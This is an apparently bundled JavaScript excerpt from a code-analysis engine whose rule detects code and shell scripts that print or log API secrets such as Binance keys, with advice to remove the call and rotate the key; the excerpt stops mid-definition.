/** `std::cout << a << b`: the tokens behind the first `<<`. */
function shiftedInto(tokens, at, steps, ends) {
	const last = (steps.at(-1) ?? "").toLowerCase();
	if (tokens.slice(at) !== "<<") return void 0;
	if (!/^(?:w?cout|w?cerr|w?clog|qdebug|stdout|stderr|log|logger)$/.test(last)) return void 0;
	return [at + 1, endOfStatement(tokens, at + 1, ends)];
}
/**
* The first line end or semicolon outside of brackets that does not end in an operator or a comma.
* @param ends where the statement ends that goes on at a token: of one that never ends each token is looked at once
*/
function endOfStatement(tokens, from, ends) {
	const { kind } = tokens;
	const passed = [];
	let at = from;
	for (; at < tokens.length; at += 1) {
		const known = ends.get(at);
		if (known !== void 0) {
			at = known;
			break;
		}
		passed.push(at);
		const close = tokens.close(at);
		if (close >= 0) {
			at = close;
			continue;
		}
		if (kind[at] === Kind.semicolon || kind[at] === Kind.closeBrace || kind[at] === Kind.closeParen) break;
		if (kind[at] !== Kind.newline) continue;
		const next = tokens.skipNewlines(at, tokens.length);
		if (/^(?:<<|\+|\.)$/.test(tokens.slice(next))) at = next - 1;
		else if (!/^(?:,|\+|<<|\.|\\|%|&)$/.test(tokens.slice(at - 1))) break;
	}
	for (const one of passed) ends.set(one, at);
	return at;
}
function startsStatement(tokens, at) {
	if (at === 0) return true;
	const before = tokens.kind[at - 1];
	if (before === Kind.newline || before === Kind.semicolon || before === Kind.openBrace || before === Kind.closeBrace) return true;
	if (before === Kind.closeParen || before === Kind.colon || before === Kind.greater || before === Kind.question) return true;
	return /^(?:then|do|else|and|or|&&|\|\||\||php|=>|->)$/.test(tokens.slice(at - 1));
}
/** Whether a value may begin there, and no operator stands. */
function isOperandStart(tokens, at) {
	const kind = tokens.kind[at];
	return kind === Kind.word || kind === Kind.string || kind === Kind.openBracket || kind === Kind.openBrace || kind === Kind.colon;
}
function isAccess$1(kind) {
	return kind === Kind.dot || kind === Kind.optionalDot || kind === Kind.thinArrow || kind === Kind.scope;
}
// ../engine/dist/risks/calls/printed-secrets.js
/**
* Whether a program may print a secret, by its words alone: so that most programs, which print something and have a
* secret somewhere, need not be read for it. What the words stand for is rules/secret-logged.ts's to see.
*/
/** In a text a name ends where no letter follows. */
const inText = secretHint.source.replaceAll("$", "(?!\\w)");
const hints = new RegExp(inText, "gi");
/** Names of secrets, and of what holds one whatever the program says: see `isShown` in rules/secret-logged.ts. */
const telling = new RegExp(`${inText}|cred(?:ential)?s?(?!\\w)|env(?:iron)?\\b`, "i");
const name$1 = /[\w\u0080-\uffff]+/;
const allNames = new RegExp(name$1, "g");
/** So far before a word of its value a name stands, in tokens, brackets not counted: the longest value that a name is known for. */
const reach$1 = 300;
/** So many tokens may the steps take that lead to the one that says secret. */
const mostSteps = 36;
/** Longer texts are no names. */
const longestName = 100;
/** False only where no call that logs is given what tells of a secret, or a name of what was given one. */
function mayPrintSecret(tokens) {
	const { text, start, end } = tokens;
	let names;
	let seen = 0;
	for (const { given } of logCallsOf(tokens)) for (const [from, to] of given) {
		const first = Math.max(from, seen);
		if (first >= to) continue;
		seen = to;
		const words = text.slice(start[first], end[to - 1]);
		if (telling.test(words)) return true;
		names ??= namesOfHolders(tokens);
		if (names.size > 0) {
			for (const [one] of words.matchAll(allNames)) if (names.has(one)) return true;
		}
	}
	return false;
}
/** What may be the name of something that holds a secret: `s = env.API_SECRET`, `config.secret = …`, `{ secret }` in what is called so. */
function namesOfHolders(tokens) {
	const { text, kind, start, end, length } = tokens;
	const names = /* @__PURE__ */ new Set();
	const around = bracketsAround(tokens);
	/** Brackets that were looked at: around a hint, and as what takes a value apart. */
	const seen = /* @__PURE__ */ new Set();
	const taken = /* @__PURE__ */ new Set();
	let last = -1;
	const addAround = (index) => {
		const open = around[index];
		addSteps(tokens, index, names);
		addNames(tokens, index - 1, open >= 0 && kind[open] !== Kind.openBrace, names, taken);
	};
	for (const { index: at } of text.matchAll(hints)) {
		const index = countBefore(length, (one) => start[one] <= at) - 1;
		if (index < 0 || end[index] <= at || index === last) continue;
		last = index;
		addName(tokens, index, names);
		addAround(index);
		for (let open = around[index]; open >= 0 && !seen.has(open); open = around[open]) {
			seen.add(open);
			addAround(open);
		}
	}
	return names;
}
/** The steps that lead to a token: of `config["binance"].secret` both. */
function addSteps(tokens, at, names) {
	const { kind } = tokens;
	for (let index = at - 1; index >= Math.max(0, at - mostSteps); index -= 1) {
		const here = kind[index];
		addName(tokens, index, names);
		if (here !== Kind.word && here !== Kind.string && !accessing[here] && here !== Kind.openBracket && here !== Kind.closeBracket) break;
	}
}
/**
* The names that are given the value in which a token stands: back to where its entry or its statement begins.
* @param isEntry what it is part of ends at a comma, and not where a line does; in a statement a comma may be one of
*   `a, b = 1, 2`
* @param taken brackets whose names were added before
*/
function addNames(tokens, from, isEntry, names, taken) {
	const { kind, match, length } = tokens;
	let isOther = false;
	let isNamed = false;
	/** The kind of the token behind, line ends not counted. */
	let next = kind[tokens.skipNewlines(from + 1, length)];
	for (let index = from, left = reach$1; index >= 0 && left > 0; index -= 1, left -= 1) {
		const partner = match[index];
		if (partner > index) return;
		const here = kind[index];
		if (here === Kind.newline) {
			let before = index;
			while (before >= 0 && kind[before] === Kind.newline) before -= 1;
			const last = before < 0 ? 0 : kind[before];
			const goesOn = continuesAfter[last] || continuesBefore[next] || assigning[next] || next === Kind.openBrace;
			if (!isEntry && !goesOn) return;
			index = before + 1;
			continue;
		}
		if (partner >= 0) {
			isNamed ||= assigning[next] === 1;
			if (assigning[next] && !taken.has(partner)) {
				taken.add(partner);
				const last = Math.min(index, partner + reach$1);
				for (let inner = partner + 1; inner < last; inner += 1) addName(tokens, inner, names);
			}
			index = partner;
		} else if (here === Kind.semicolon || here === Kind.comma && isEntry) return;
		else if (here === Kind.comma) isOther = true;
		else if (assigning[next]) {
			addName(tokens, index, names);
			isNamed = true;
		} else if (isNamed) addName(tokens, index, names);
		else if (!isOther && (next === Kind.colon || next === Kind.openBracket || next === Kind.openBrace)) addName(tokens, index, names);
		next = kind[index];
	}
}
/** The name that a token is, or the names of a path in a text: `"config.secret"`. */
function addName(tokens, index, names) {
	const { kind, start, end, text } = tokens;
	if (end[index] - start[index] > longestName) return;
	if (kind[index] === Kind.word) {
		const [one] = name$1.exec(tokens.slice(index)) ?? [];
		if (one !== void 0) names.add(one);
	} else if (kind[index] === Kind.string) {
		const inner = text.slice(tokens.contentStart(index), tokens.contentEnd(index));
		if (!/\s/.test(inner)) for (const [one] of inner.matchAll(allNames)) names.add(one);
	}
}
// ../engine/dist/risks/calls/shell-output.js
/** What shell commands print: `echo`, `printf`, `Write-Host` in scripts, in steps of workflows, in Dockerfiles and lists of commands. */
const command = /(?<![\w./$-])(echo|printf|printenv|print|logger|Write-(?:Host|Output|Verbose|Debug|Information|Warning|Error)|Out-Host|msg)\b(?=[ \t])/gi;
const captured = /(?:\$\(|`|<\()\s*$/;
const longest$1 = 2e3;
/** In the order of the text. Not what is piped on or written to a file. */
function* printedIn(text) {
	let left = 1e5 + 20 * text.length;
	for (const { index, 0: word } of text.matchAll(command)) {
		if (captured.test(text.slice(Math.max(0, index - 8), index))) continue;
		if (/^\s*(?:#|\/\/|rem\b|::)/i.test(text.slice(require_worth_reading.lineStart(text, index, longest$1), index))) continue;
		const { given, end } = argumentsAt(text, index + word.length);
		left -= end - index + 100;
		if (left < 0) return;
		if (given === void 0) continue;
		const names = word.toLowerCase() === "printenv" ? given.trim().split(/\s+/) : [...namesIn(given)];
		if (names.length > 0) yield {
			command: word,
			span: {
				start: index,
				end: index + word.length
			},
			names
		};
	}
}
/** What stands in single quotes is printed as it is, so it is left out. `given` undefined: it is not for people to see. */
function argumentsAt(text, from) {
	let given = "";
	let inDouble = false;
	const limit = Math.min(text.length, from + longest$1);
	let at = from;
	for (; at < limit; at += 1) {
		const char = text.charAt(at);
		if (char === "\\") {
			if (text.charAt(at + 1) === "\"") inDouble = !inDouble;
			else given += text.charAt(at + 1) === "\n" ? " " : char + text.charAt(at + 1);
			at += 1;
		} else if (char === "\"") inDouble = !inDouble;
		else if (char === "\n" && !inDouble) break;
		else if (char === "$" && text.charAt(at + 1) === "(" && !/^\$\(\w+\)/.test(text.slice(at, at + 80))) at = endOfSubstitution(text, at + 1, limit);
		else if (!inDouble && char === "'") {
			const length = text.slice(at + 1, limit).indexOf("'");
			if (length < 0) break;
			at += 1 + length;
		} else if (!inDouble && char === "|") {
			if (text.charAt(at + 1) === "|") break;
			return {
				given: /^\|\s*tee\b/.test(text.slice(at, at + 10)) ? given : void 0,
				end: at
			};
		} else if (!inDouble && char === ">") {
			if (text.charAt(at - 1) === "2" && text.charAt(at - 2) === " ") continue;
			if (!/^>+\s*(?:&[12]|\/dev\/(?:std(?:err|out)|tty))/.test(text.slice(at, at + 20))) return {
				given: void 0,
				end: at
			};
		} else if (!inDouble && (char === ";" || char === "&" && text.charAt(at - 1) !== ">" || char === ")" && !given.includes("("))) break;
		else given += char;
	}
	return {
		given: given.includes("::add-mask::") ? void 0 : given,
		end: at
	};
}
function endOfSubstitution(text, open, limit) {
	let depth = 0;
	for (let at = open; at < limit; at += 1) if (text.charAt(at) === "(") depth += 1;
	else if (text.charAt(at) === ")" && (depth -= 1) === 0) return at;
	return limit;
}
const variable = /\$\{\{\s*([\w.-]{1,100})\s*\}\}|\$\{([^{}]{1,100})\}|\$\(([A-Za-z_]\w{0,80})\)|\${1,2}((?:env:)?[A-Za-z_]\w{0,80})|%([A-Za-z_]\w{0,80})%|!([A-Za-z_]\w{0,80})!/gi;
/** `$NAME`, `${NAME:-none}`, `${{ secrets.NAME }}`, `$(NAME)` of make, `%NAME%`; not `${#NAME}`, `${NAME:0:4}`, `${NAME:+set}`. */
function* namesIn(given) {
	for (const [, expression, braced, make, plain, percent, late] of given.matchAll(variable)) if (expression !== void 0) yield expression.slice(expression.lastIndexOf(".") + 1);
	else if (braced !== void 0) {
		const name = /^(?:env:)?([A-Za-z_]\w*)(?::?[-=?].*)?$/i.exec(braced)?.[1];
		if (name !== void 0) yield name;
	} else yield (make ?? plain ?? percent ?? late ?? "").replace(/^env:/i, "");
}
// ../engine/dist/risks/calls/shown-values.js
/**
* What an expression would show if it were printed: whether a secret is among it, whole. Reads tokens, for every language
* alike: `secret`, `cfg["secret"]`, `"…${secret}"`, `os.getenv("API_SECRET")` show it; `!!secret`, `secret.length`,
* `secret[:4]`, `mask(secret)` and `secret ? "set" : "missing"` do not. What a function makes of it is another thing,
* unless the function is known to hand it on.
*/
const dollar = /\$\{([^{}]{1,300}(?:\{[^{}]{0,100}\}[^{}]{0,100})?)\}|\$\(([^()]{1,300})\)|\$((?:env:)?[A-Za-z_]\w{0,80})/g;
const dollarBraces = /\$\{([^{}]{1,300}(?:\{[^{}]{0,100}\}[^{}]{0,100})?)\}/g;
const braces = /\{\{|\{([^{}]{1,300}(?:\{[^{}]{0,100}\})?)\}/g;
const hashBraces = /#\{([^{}]{1,300})\}/g;
const interpolations = {
	javascript: [{
		opening: /^`/,
		pattern: dollarBraces
	}, {
		opening: /^["']/,
		pattern: hashBraces
	}],
	python: [{
		opening: /^(?:f|rf|fr)["']/i,
		pattern: braces
	}],
	csharp: [{
		opening: /^@?\$/,
		pattern: braces
	}],
	java: [{ pattern: dollar }, { pattern: /\\\(([^()]{1,300}(?:\([^()]{0,100}\)[^()]{0,100})?)\)/g }],
	rust: [{ pattern: braces }],
	php: [{
		opening: /^["<]/,
		pattern: /\{(\$[^{}]{1,300})\}|\$\{([^{}]{1,300})\}|(\$[A-Za-z_]\w{0,80}(?:->\w{1,80}|\[[^\][]{1,80}\]){0,4})/g
	}],
	ruby: [{
		opening: /^(?!')/,
		pattern: hashBraces
	}],
	hash: [{
		opening: /^(?!')/,
		pattern: hashBraces
	}, {
		opening: /^(?!')/,
		pattern: dollar
	}],
	powershell: [{
		opening: /^@?"/,
		pattern: dollar
	}],
	shell: [{
		opening: /^(?!')/,
		pattern: dollar
	}]
};
/** Calls and properties that hand their value on: what they give is still the secret. */
const handsOn = /^(?:str|string|repr|tostring|to_string|to_s|to_str|tostr|stringify|dumps|dump|json|tojson|to_json|inspect|format|sprintf|sprint|sprintln|fmt|join|concat|append|trim|trimend|trimstart|strip|rstrip|lstrip|chomp|decode|encode|as_str|as_string|asstring|as_ref|as_deref|into|clone|to_owned|unwrap|unwrap_or|unwrap_or_default|unwrap_or_else|expect|value|get|getvalue|get_secret_value|expose_secret|expose|reveal|orelse|or_default|some|ok|object|dict|vars|asdict|assign|merge|pformat|pretty|highlight|b64encode|b64decode|b64|btoa|atob|base64|frombytes|tobytes|bytes|bytearray|from|of|valueof|upper|lower|touppercase|tolowercase|upcase|downcase|text|data|result|await|printable|json_encode|serialize|print_r|var_export|html|htmlspecialchars|escape|quote|encodeuricomponent|deref|unsafestring|c_str|utf8|utf8string|chr|cstr|any|with|add|field|kv|attr|bold|red|green|yellow|blue|cyan|gray|magenta|white|dim|underline|colored|style|buffer|strval|byte|rune|char|print|error|info)$/;
/** Calls that look a name up: what they give is the thing that the name names. */
const looksUp = /^(?:get_?env(?:ironment_?variable|_?or_?default)?|env|var|var_os|environ|env_?var|env_?str|must_?get_?env|lookup_?env|fetch_env!?|get_?or_?throw|get_?property|get_?item|get_?(?:config|setting|secret|param|value|string|str)|config|dotenv|prop|property|setting)$/;
/** These do where they are asked of a configuration. */
const looksUpThere = /^(?:get|getvalue|value|fetch!?|required?|read|param|option|opt|str|string|cfg|lookup|at)$/;
const configuration = /env|config|cfg|conf\b|viper|settings?|props|properties|secrets?\b|vault|options|decouple|params/i;
/** A call whose own name says that it brings a secret. */
const brings = /^(?:get|load|fetch|read|resolve|decrypt|retrieve|obtain|ask|find)_?/i;
const comparing = /^(?:==|===|!=|!==|<|>|<=|>=|<=>|=~|!~|in|is|isnot|instanceof|eq|ne|matches|contains)$/;
const negating = /^(?:!|not|typeof|sizeof|!!|defined|isset|empty|#|delete|void|defined\?)$/;
const blanks = /* @__PURE__ */ new Set([
	"await",
	"new",
	"return",
	"yield",
	"mut",
	"ref",
	"const",
	"static",
	"string"
]);
const maxDepth = 12;
const maxWork = 2e4;
/** Far more than programs that people write need. */
function effortFor(tokens) {
	return { left: 5e5 + 30 * tokens.length };
}
var ShownValues = class {
	#language;
	#isSecret;
	#effort;
	#work = 0;
	constructor(language, isSecret, effort = { left: Infinity }) {
		this.#language = language;
		this.#isSecret = isSecret;
		this.#effort = effort;
	}
	/** The first secret that the tokens [from, to) would show. */
	of(tokens, from, to, depth = 0) {
		this.#work += to - from;
		this.#effort.left -= to - from;
		if (depth > maxDepth || this.#work > maxWork || this.#effort.left < 0 || from >= to) return void 0;
		for (const [start, end] of split(tokens, from, to, (text) => text === "," || text === ";")) {
			const shown = this.#item(tokens, start, end, depth);
			if (shown) return shown;
		}
	}
	/** An argument, an element or an entry. */
	#item(tokens, from, to, depth) {
		let start = skipBlank(tokens, from, to);
		const colon = entryValue(tokens, start, to);
		if (colon > start) start = colon;
		return this.#expression(tokens, start, to, depth);
	}
	#expression(tokens, from, to, depth) {
		this.#effort.left -= to - from + 8;
		if (from >= to || depth > maxDepth || this.#effort.left < 0) return void 0;
		const conditional = this.#conditional(tokens, from, to, depth);
		if (conditional !== void 0) return conditional === "none" ? void 0 : conditional;
		const alternatives = split(tokens, from, to, (text) => /^(?:\|\||\?\?|or|\?:|\|\|=)$/.test(text));
		if (alternatives.length > 1) return this.#any(tokens, alternatives, depth);
		const both = split(tokens, from, to, (text) => text === "&&" || text === "and");
		if (both.length > 1) return this.#expression(tokens, ...both.at(-1), depth + 1);
		const first = tokens.slice(from);
		if (negating.test(first.toLowerCase()) || first.startsWith("!") && tokens.kind[from] === Kind.word) return void 0;
		if (hasTop(tokens, from, to, (text) => comparing.test(text))) return void 0;
		const terms = split(tokens, from, to, (text) => /^(?:\+|%|&|\.\.|<>|<<|~|\+=|\||\^)$/.test(text));
		if (terms.length > 1) return this.#any(tokens, terms, depth);
		if (this.#language.name === "php") {
			const joined = split(tokens, from, to, (text) => text === ".");
			if (joined.length > 1) return this.#any(tokens, joined, depth);
		}
		return this.#chain(tokens, from, to, depth);
	}
	#any(tokens, ranges, depth) {
		for (const [start, end] of ranges) {
			const shown = this.#expression(tokens, skipBlank(tokens, start, end), end, depth + 1);
			if (shown) return shown;
		}
	}
	/** `a ? b : c` and `b if a else c`: the condition is not shown. `none`: it is one, and shows nothing. */
	#conditional(tokens, from, to, depth) {
		const question = indexOfTop(tokens, from, to, (text) => text === "?" || text === "if");
		if (question < 0) return void 0;
		if (tokens.slice(question) === "?") {
			const colon = indexOfTop(tokens, question + 1, to, (text) => text === ":");
			if (colon < 0) return void 0;
			return this.#expression(tokens, skipBlank(tokens, question + 1, colon), colon, depth + 1) ?? this.#expression(tokens, skipBlank(tokens, colon + 1, to), to, depth + 1) ?? "none";
		}
		const otherwise = indexOfTop(tokens, question + 1, to, (text) => text === "else");
		if (question === from) {
			const body = skipBlank(tokens, question + 1, to);
			const close = tokens.kind[body] === Kind.openParen ? tokens.close(body) : -1;
			const after = close >= 0 ? close + 1 : indexOfTop(tokens, body, to, (text) => text === "then") + 1;
			if (after <= 0 || after >= to) return "none";
			const end = otherwise < 0 ? to : otherwise;
			return this.#expression(tokens, after, end, depth + 1) ?? (otherwise < 0 ? void 0 : this.#expression(tokens, otherwise + 1, to, depth + 1)) ?? "none";
		}
		return this.#expression(tokens, from, question, depth + 1) ?? (otherwise < 0 ? void 0 : this.#expression(tokens, otherwise + 1, to, depth + 1)) ?? "none";
	}
	/** Names, literals, brackets, one after the other: `a.b(c)[d].e`. */
	#chain(tokens, from, to, depth) {
		/** The secret that what was read so far stands for. */
		let held;
		let found;
		const path = [];
		for (let at = from; at < to; at += 1) {
			const kind = tokens.kind[at];
			const text = tokens.slice(at);
			if (kind === Kind.newline) continue;
			if (kind === Kind.string) {
				found ??= this.#string(tokens, at, depth);
				continue;
			}
			if (kind === Kind.word) {
				const name = text.replace(/^[$@:&*]+/, "").replace(/[?!]$/, "");
				const isCall = tokens.kind[at + 1] === Kind.openParen && at + 1 < to;
				const isMacro = text.endsWith("!");
				const follows = isAccess(tokens.kind[at - 1]) && at > from;
				if (held && follows) held = keeps(tokens, at, name) ? held : void 0;
				else if (held) {
					found ??= held;
					held = void 0;
				}
				if (!follows) path.length = 0;
				path.push(...name.split("\\").slice(-1));
				if (blanks.has(name)) path.length = 0;
				else if (isCall || isMacro) {
					if (held === void 0) held = this.#call(tokens, at, name, path, depth);
					if (isCall) at = Math.max(at + 1, tokens.close(at + 1));
				} else if (held === void 0 && this.#isSecret(name, path)) held = {
					name,
					path: path.slice()
				};
				continue;
			}
			const close = tokens.close(at);
			if (close >= 0 && close < to) {
				if (kind === Kind.openBracket && at > from && isValueEnd(tokens, at - 1)) {
					const key = keyIn(tokens, at, close);
					held = void 0;
					if (key !== void 0) {
						path.push(key);
						if (this.#isSecret(key, path)) held = {
							name: key,
							path: path.slice()
						};
					}
				} else if (kind === Kind.openParen && at > from && isValueEnd(tokens, at - 1)) held = void 0;
				else found ??= this.of(tokens, at + 1, close, depth + 1);
				at = close;
			}
		}
		return found ?? held;
	}
	/** What a call at the word `at` gives: what it was given where it hands that on, what it looks up by name. */
	#call(tokens, at, name, path, depth) {
		const open = at + 1;
		const close = tokens.close(open);
		if (close < 0) return void 0;
		const folded = name.toLowerCase();
		if (looksUp.test(folded) || looksUpThere.test(folded) && configuration.test(path.slice(0, -1).join("."))) {
			const argument = skipBlank(tokens, open + 1, close);
			if (tokens.kind[argument] === Kind.string) {
				const key = contentOf(tokens, argument).split(/[.:/]+/).at(-1) ?? "";
				if (this.#isSecret(key, [...path.slice(0, -1), key])) return {
					name: key,
					path: [...path.slice(0, -1), key]
				};
			} else if (tokens.kind[argument] === Kind.word && /env|var|config/i.test(path.join("."))) {
				const shown = this.of(tokens, open + 1, close, depth + 1);
				if (shown) return shown;
			}
		}
		if (handsOn.test(folded) || /!$/.test(tokens.slice(at))) return this.of(tokens, open + 1, close, depth + 1);
		if (brings.test(name) && this.#isSecret(name.replace(brings, ""), path)) return {
			name,
			path: path.slice()
		};
	}
	#string(tokens, at, depth) {
		const kinds = interpolations[this.#language.name];
		if (!kinds || depth > maxDepth) return void 0;
		const opening = tokens.text.slice(tokens.start[at], tokens.contentStart(at)) || "<";
		const start = tokens.contentStart(at);
		const content = tokens.text.slice(start, Math.max(start, tokens.contentEnd(at)));
		this.#effort.left -= content.length >> 3;
		for (const { opening: wanted, pattern } of kinds) {
			if (wanted && !wanted.test(opening)) continue;
			for (const match of content.matchAll(pattern)) {
				if (content.charAt(match.index - 1) === "\\" && !match[0].startsWith("\\")) continue;
				const groups = match.slice(1);
				const shown = this.#inside(groups.find((one) => one !== void 0) ?? "", depth);
				if (shown) return shown;
			}
		}
	}
	/** An expression inside a text, with what some languages write behind it: `secret!r`, `secret:>10`, `secret=`. */
	#inside(source, depth) {
		const { name } = this.#language;
		if (name === "shell") return this.#shell(source);
		let expression = source;
		if (name === "python" || name === "rust" || name === "csharp") {
			const at = formatAt(source);
			if (/\.\d+s?$/.test(source.slice(at))) return void 0;
			expression = source.slice(0, at).replace(/=\s*$/, "");
		}
		if (expression.trim() === "") return void 0;
		const inner = lex(expression, this.#language);
		return this.of(inner, 0, inner.length, depth + 1);
	}
	/** `NAME`, `NAME:-default` show it; `#NAME`, `NAME:0:4`, `NAME:+set` and `NAME//?/x` do not. */
	#shell(source) {
		const name = /^([A-Za-z_]\w*)(?::?[-=?].*)?$/.exec(source)?.[1];
		return name !== void 0 && this.#isSecret(name, [name]) ? {
			name,
			path: [name]
		} : void 0;
	}
};
/** Where the format of a value in a text begins: `secret:>10`, `secret!r`. */
function formatAt(source) {
	let depth = 0;
	let quote = "";
	for (let at = 0; at < source.length; at += 1) {
		const char = source.charAt(at);
		if (quote !== "") {
			if (char === quote) quote = "";
		} else if (char === "\"" || char === "'") quote = char;
		else if ("([{".includes(char)) depth += 1;
		else if (")]}".includes(char)) depth -= 1;
		else if (depth === 0 && char === ":" && source.charAt(at + 1) !== ":" && source.charAt(at - 1) !== ":") return at;
		else if (depth === 0 && char === "!" && /^![rsa]\s*$/.test(source.slice(at))) return at;
	}
	return source.length;
}
function contentOf(tokens, at) {
	const start = tokens.contentStart(at);
	return tokens.text.slice(start, Math.max(start, Math.min(tokens.contentEnd(at), start + 200)));
}
/** Whether a property or call of a thing still gives all of it: `.trim()`, and not `.get("api_key")`. */
function keeps(tokens, at, name) {
	if (!handsOn.test(name.toLowerCase())) return false;
	return !/^(?:get|fetch|value|data)$/i.test(name) || tokens.kind[at + 1] !== Kind.openParen || tokens.close(at + 1) === at + 2;
}
/** The name in an index: `["secret"]`, `[:secret]`. */
function keyIn(tokens, open, close) {
	if (close === open + 2 && tokens.kind[open + 1] === Kind.string) return contentOf(tokens, open + 1);
	if (close === open + 3 && tokens.kind[open + 1] === Kind.colon && tokens.kind[open + 2] === Kind.word) return /\D/.test(tokens.slice(open + 2)) ? tokens.slice(open + 2) : void 0;
}
function isAccess(kind) {
	return kind === Kind.dot || kind === Kind.optionalDot || kind === Kind.thinArrow || kind === Kind.scope;
}
function isValueEnd(tokens, at) {
	const kind = tokens.kind[at];
	return kind === Kind.word || kind === Kind.closeParen || kind === Kind.closeBracket || kind === Kind.optionalDot;
}
function skipBlank(tokens, from, to) {
	return tokens.skipNewlines(from, to);
}
/** The ranges between the tokens that separate, outside of brackets. */
function split(tokens, from, to, separates) {
	const ranges = [];
	let start = from;
	for (let at = from; at < to; at += 1) {
		const close = tokens.close(at);
		if (close >= 0 && close < to) at = close;
		else if (tokens.kind[at] !== Kind.string && separates(tokens.slice(at))) {
			ranges.push([start, at]);
			start = at + 1;
		}
	}
	ranges.push([start, to]);
	return ranges;
}
function indexOfTop(tokens, from, to, is) {
	for (let at = from; at < to; at += 1) {
		const close = tokens.close(at);
		if (close >= 0 && close < to) at = close;
		else if (tokens.kind[at] !== Kind.string && is(tokens.slice(at))) return at;
	}
	return -1;
}
function hasTop(tokens, from, to, is) {
	return indexOfTop(tokens, from, to, is) >= 0;
}
/** Where the value of an entry begins; `from` where the range is none. */
function entryValue(tokens, from, to) {
	let at = from;
	if (tokens.kind[at] !== Kind.word && tokens.kind[at] !== Kind.string) return from;
	at += 1;
	const kind = tokens.kind[at];
	if (kind === Kind.colon || kind === Kind.fatArrow || kind === Kind.equals) return skipBlank(tokens, at + 1, to);
	return from;
}
// ../engine/dist/rules/secret-logged.js
/** Code that prints or logs a secret. Not whether it is there, how long it is, or a piece of it. */
/** Formats in which commands stand, and languages of commands. */
const shells = /* @__PURE__ */ new Set([
	"shell",
	"powershell",
	"batch",
	"yaml",
	"json",
	"toml",
	"text",
	"ini"
]);
const shellName = /(?:^|\/)(?:package|composer|tasks|devcontainer|launch)\.json$/;
const harmlessValue = /^\s*(?:!|not\b|bool\(|Boolean\(|Boolean\b|len\()|\bmask|redact|obfusc|\?\s*["'`]|\[:?-?\d*:?-?\d*\]|\.(?:slice|substr|substring|take|first|padStart|length|size)\b|\bif\b.+\belse\b|[!=]==?\s|\breplace\(|["']\*+["']/i;
const credentialsName = /(?:^|_|[a-z])(?:credentials?|creds)$|^(?:credentials?|creds)$/i;
const recordName = /config|cfg|conf$|cred|settings|options|opts$|params|keys$|secrets$|account|auth|binance|client|data|payload/i;
const maxBindings = 2e4;
function namesOf({ settings, document: { text, path: file }, reading }) {
	const aliases = /* @__PURE__ */ new Set();
	const records = /* @__PURE__ */ new Set();
	const harmless = /* @__PURE__ */ new Map();
	const language = languages[isLanguage(reading.language) ? reading.language : "javascript"];
	const evaluate = (source) => {
		const tokens = lex(source, language);
		return new ShownValues(language, (name) => isSecretAlone(name)).of(tokens, 0, tokens.length);
	};
	for (const { path, via, value, span, call } of settings.slice(0, maxBindings)) {
		const name = path.at(-1) ?? "";
		const said = secretName(name);
		if (said && path.length > 1 && !isMasked(value)) {
			const above = path.at(-2);
			if (!/^\d*$/.test(above) && !call && (via === "entry" || recordName.test(above))) records.add(above);
		}
		if (via !== "assign") continue;
		const source = span.end - span.start < 300 ? text.slice(span.start, span.end) : "";
		if (said) {
			const is = value.kind === "text" && value.pieces.length > 0 && isOfTests(file) || harmlessValue.test(source) && evaluate(source) === void 0;
			harmless.set(name, (harmless.get(name) ?? true) && is);
		} else if (/^[A-Za-z_$]\w*$/.test(name) && /secret|priv/i.test(source) && value.kind !== "text") {
			if (!/^(?:\{|\[|function|async|\(|class|def|lambda)/.test(source) && evaluate(source)) aliases.add(name);
		}
	}
	return {
		aliases,
		records,
		harmless: new Set([...harmless].filter(([, is]) => is).map(([name]) => name)),
		inEnvironment: /(?:process\.env|environ|import\.meta\.env)\b.{0,20}(?:BINANCE|BN|API)\w*SECRET/i.test(text)
	};
}
function isMasked(value) {
	return value.kind === "text" && (/^[*x•.…-]*$/i.test(value.text) || /^<.*>$|\*{3}|redacted|masked|hidden/i.test(value.text));
}
function isSecretAlone(name) {
	return secretName(name) !== void 0;
}
function isShown(name, path, names) {
	if (names.harmless.has(name)) return false;
	if (secretName(name) !== void 0) return !namesOther(path);
	if (names.aliases.has(name) && path.length === 1) return true;
	if (path.length <= 2 && (names.records.has(name) || credentialsName.test(name))) return !namesOther(path);
	return names.inEnvironment && isEnvironment(name, path);
}
function isEnvironment(name, path) {
	return name === "env" && path.at(-2) === "process" || name === "environ" && path.at(-2) === "os";
}
function riskOf(span, callee, found, subject) {
	const { name, path } = found;
	const said = secretName(name);
	if (said === "vague" && isOfWallets(subject)) return void 0;
	const isBinance = said === "binance" || path.some((step) => /binance/i.test(step));
	const what = said ? require_worth_reading.shown(name) : isEnvironment(name, path) ? "the whole environment" : `${require_worth_reading.shown(name)}, which holds a secret,`;
	return {
		span,
		name: `${callee} ${name}`,
		message: `${require_worth_reading.shown(callee)} writes ${what} to the log; leave it out and give the key a new secret if it has run`,
		confidence: said === "binance" || said === "secret" ? "certain" : "likely",
		clues: isBinance ? [clue("binance-name", "its name says Binance")] : []
	};
}
function* inCode(part, subject, names) {
	const tokens = part.tokens();
	const isSecret = (name, path) => isShown(name, path, names);
	const effort = effortFor(tokens);
	for (const { callee, span, given } of logCallsOf(tokens)) for (const [from, to] of given) {
		const found = new ShownValues(tokens.language, isSecret, effort).of(tokens, from, to);
		if (!found) continue;
		const end = tokens.end[to - 1] ?? 0;
		if (/^(?:print|pprint)$/.test(callee) && isToFile(part.text.slice(Math.max(tokens.start[from] ?? 0, end - longestGiven), end))) continue;
		const risk = riskOf(part.source(span), callee, found, subject);
		if (!risk) continue;
		yield risk;
		break;
	}
}
const longestGiven = 4e3;
/** `print(x, file=f)` */
function isToFile(source) {
	return /\bfile\s*=\s*(?!sys\.std)/.test(source);
}
function* inShell(part, subject) {
	for (const { command, span, names } of printedIn(part.text)) {
		if (part.isComment(span.start)) continue;
		const name = names.find((one) => secretName(one) !== void 0);
		const risk = name !== void 0 && riskOf(part.source(span), command, {
			name,
			path: [name]
		}, subject);
		if (risk) yield risk;
	}
}
const secretLogged = {
	id: "secret-logged",
	title: "Secret written to a log",
	severity: "medium",
	finds: "A call that prints or logs a secret key or private key, or a record that holds one, in code, shell scripts and workflows. Not its length, a few of its characters, or whether it is set.",
	why: "Logs are kept longer than keys, copied to log services, pasted into bug reports and read by people who should never see the key. Who reads the secret there can trade with it.",
	advice: [
		"Take the secret out of the logging call. Log whether it is set, or the first characters of the API key.",
		"If the code has run, delete the key at Binance and make a new one: the old logs still hold its secret.",
		"Delete the logs, also at the services that they were sent to."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/request-security", "https://cheatsheetseries.owasp.org/cheatsheets/Logging_Cheat_Sheet.html#data-to-exclude"],
	mayFind: ({ language, tokens }) => shells.has(language) || mayPrintSecret(tokens()),
